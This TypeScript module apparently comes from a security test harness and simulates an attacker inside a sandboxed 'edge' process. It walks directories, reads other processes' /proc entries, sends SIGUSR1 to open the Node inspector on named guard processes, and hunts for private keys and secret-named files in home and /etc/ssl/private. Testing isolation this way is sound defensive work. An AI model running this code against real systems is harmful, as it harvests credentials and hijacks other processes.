/** What an attacker inside edge tries on files and processes. */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import type { Keep } from './loot.ts';

export function readTree(path: string, keep: Keep, depth = 6): void {
  const stat = statSync(path);
  if (stat.isFile()) {
    if (stat.size < 32 * 1024 * 1024) keep(readFileSync(path));
    return;
  }
  if (!stat.isDirectory() || depth === 0) return;
  for (const entry of readdirSync(path)) {
    try {
      readTree(join(path, entry), keep, depth - 1);
    } catch {
      // one unreadable entry does not end the search
    }
  }
}

export function readProcesses(part: string, keep: Keep): string {
  let refused = 0;
  for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name) && Number(name) !== process.pid)) {
    try {
      const path = `/proc/${pid}/${part}`;
      keep(part === 'fd' ? readdirSync(path).join(' ') : readFileSync(path));
    } catch {
      refused += 1;
    }
  }
  return `${refused} refused`;
}

/** Finds the guards by their command line and asks Node to open its inspector, then to stop. */
export function signalOthers(home: string): string {
  let reached = 0;
  for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
    let line = '';
    try {
      line = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
    } catch {
      continue;
    }
    if (!/run\/(sealer|ledger|core|console|glass)\.ts/.test(line) || !line.includes(home)) continue;
    try {
      process.kill(Number(pid), 'SIGUSR1');
      reached += 1;
    } catch {
      // not permitted
    }
  }
  if (reached === 0) throw new Error('no process of ours could be signalled');
  return `${reached} processes signalled`;
}

export function searchKeys(home: string, keep: Keep): string {
  let seen = 0;
  const walk = (path: string, depth: number): void => {
    let entries: string[] = [];
    try {
      entries = readdirSync(path);
    } catch {
      return;
    }
    for (const entry of entries) {
      const full = join(path, entry);
      try {
        const stat = statSync(full);
        if (stat.isDirectory() && depth > 0) walk(full, depth - 1);
        else if (stat.isFile() && stat.size < 65_536) {
          seen += 1;
          const bytes = readFileSync(full);
          if (bytes.length === 32 || bytes.includes('PRIVATE KEY') || /key|secret|token|pass/i.test(entry)) keep(bytes);
        }
      } catch {
        // unreadable
      }
    }
  };
  walk(home, 5);
  walk('/etc/ssl/private', 1);
  return `${seen} files looked at`;
}
